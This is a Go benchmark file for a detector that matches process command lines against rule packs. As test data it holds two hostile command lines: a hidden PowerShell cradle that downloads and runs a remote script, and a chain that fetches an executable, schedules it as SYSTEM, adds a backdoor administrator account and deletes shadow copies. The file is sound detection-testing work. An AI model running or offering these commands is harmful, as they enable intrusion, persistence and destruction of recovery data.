package match

import (
	"fmt"
	"strings"
	"testing"

	"scorecmdline/src/rules"
)

// benchLine is a 300-character command line like those of the benchmark
// stream: a PowerShell download cradle that none of the sentinel patterns
// match, so every phrase is looked for and none stops the search early.
const benchLine = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "$c = New-Object System.Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); $d = $c.DownloadString('http://203.0.113.7:8080/stage2.ps1'); Invoke-Expression $d; Start-Sleep -s 30"`

var sinkHits []int

func benchmarkMatch(b *testing.B, s *Set, line, parent string) {
	m := s.NewMatcher()
	cmd, par := []byte(line), []byte(parent)
	b.SetBytes(int64(len(cmd)))
	b.ReportAllocs()
	for b.Loop() {
		sinkHits = m.Match(cmd, par)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

func BenchmarkMatch(b *testing.B) {
	s := sentinel(b)
	b.Run(fmt.Sprintf("sentinel/miss/%dB", len(benchLine)), func(b *testing.B) {
		benchmarkMatch(b, s, benchLine, `C:\Windows\explorer.exe`)
	})
	b.Run(fmt.Sprintf("sentinel/hits/%dB", len(hitLine)), func(b *testing.B) {
		benchmarkMatch(b, s, hitLine, winword)
	})
	big := bigSet(b, 2000)
	b.Run(fmt.Sprintf("2000rules/miss/%dB", len(benchLine)), func(b *testing.B) {
		benchmarkMatch(b, big, benchLine, `C:\Windows\explorer.exe`)
	})
}

// hitLine is a command line that six rules of the sentinel pack match.
const hitLine = `cmd.exe /c "certutil -urlcache -split -f http://127.0.0.1:8080/x.exe %TEMP%\x.exe && schtasks /create /tn Updater /tr %TEMP%\x.exe /sc onlogon /ru SYSTEM && net user support P@ssw0rd! /add && net localgroup administrators support /add && vssadmin delete shadows /all /quiet && reg add HKLM\Software\x /v y /d z /f"`

// BenchmarkMatchMiss measures how matching scales with the pack: the
// shipped pack and synthetic ones of 500 to 2,000 rules (synthPack), on the
// 300-byte benign line, which none of them match, and on a line that some
// rules of each match.
func BenchmarkMatchMiss(b *testing.B) {
	type bench struct {
		name string
		s    *Set
		hit  string
	}
	sets := []bench{{"sentinel_cmd", sentinel(b), hitLine}}
	for _, n := range []int{500, 1500, 2000} {
		src, hit := synthPack(n)
		sets = append(sets, bench{fmt.Sprintf("synthetic-%d", n), compileString(b, "synthetic", src), hit})
	}
	explorer := []byte(`C:\Windows\explorer.exe`)
	for _, tt := range sets {
		m := tt.s.NewMatcher()
		if hits := m.Match([]byte(benchLine), explorer); len(hits) > 0 {
			b.Fatalf("%s: the benign line matches %v", tt.name, hits)
		}
		if hits := m.Match([]byte(tt.hit), explorer); len(hits) == 0 {
			b.Fatalf("%s: %q matches nothing", tt.name, tt.hit)
		}
		b.Run(tt.name+"/miss", func(b *testing.B) { benchmarkMatch(b, tt.s, benchLine, string(explorer)) })
		b.Run(tt.name+"/hit", func(b *testing.B) { benchmarkMatch(b, tt.s, tt.hit, string(explorer)) })
	}
}

// bigSet makes a pack of n rules with two-piece phrases over made-up tool
// names, to show that matching cost follows the line, not the pack.
func bigSet(b *testing.B, n int) *Set {
	var src strings.Builder
	src.WriteString("[pack]\ndescription = \"synthetic\"\n")
	for i := range n {
		fmt.Fprintf(&src, "[[rule]]\nname = \"r%d\"\ndescription = \"d\"\nany = [\"tool%d ... /opt%d\", \"util%d -x\"]\ntechniques = [\"T1059\"]\nrisk = 1\n", i, i, i%50, i)
	}
	return compileString(b, "big", src.String())
}

// BenchmarkPrepare: building the tables of a large pack, which the first
// line after getinfo waits for (rows/s here is packs per second).
func BenchmarkPrepare(b *testing.B) {
	for _, n := range []int{500, 1500} {
		src, _ := synthPack(n)
		p, err := rules.ParsePack("synthetic"+rules.PackSuffix, []byte(src))
		if err != nil {
			b.Fatal(err)
		}
		b.Run(fmt.Sprintf("synthetic-%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				s, err := Compile(p)
				if err != nil {
					b.Fatal(err)
				}
				s.Prepare()
			}
		})
	}
}
